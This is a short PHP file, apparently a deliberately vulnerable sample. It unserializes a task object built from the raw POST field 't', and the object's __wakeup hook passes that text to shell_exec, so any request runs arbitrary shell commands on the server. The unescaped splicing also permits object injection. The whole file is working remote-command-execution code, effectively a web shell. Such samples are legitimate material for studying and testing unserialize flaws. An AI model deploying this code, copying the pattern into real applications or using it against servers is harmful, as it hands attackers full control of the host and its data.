<?php
// A "task" class whose restore hook runs whatever routine its fields name; the request's text is
// spliced into a serialized task and unserialized, so the request fills the routine's argument.
class TaskCard
{
    public $payload = '';
    public $runner = 'shell_exec';

    public function __wakeup()
    {
        echo '<pre>' . call_user_func($this->runner, $this->payload) . '</pre>';
    }
}

$cmd = isset($_POST['t']) ? $_POST['t'] : 'uptime';
$card = 'O:8:"TaskCard":1:{s:7:"payload";s:' . strlen($cmd) . ':"' . $cmd . '";}';
$restored = unserialize($card);
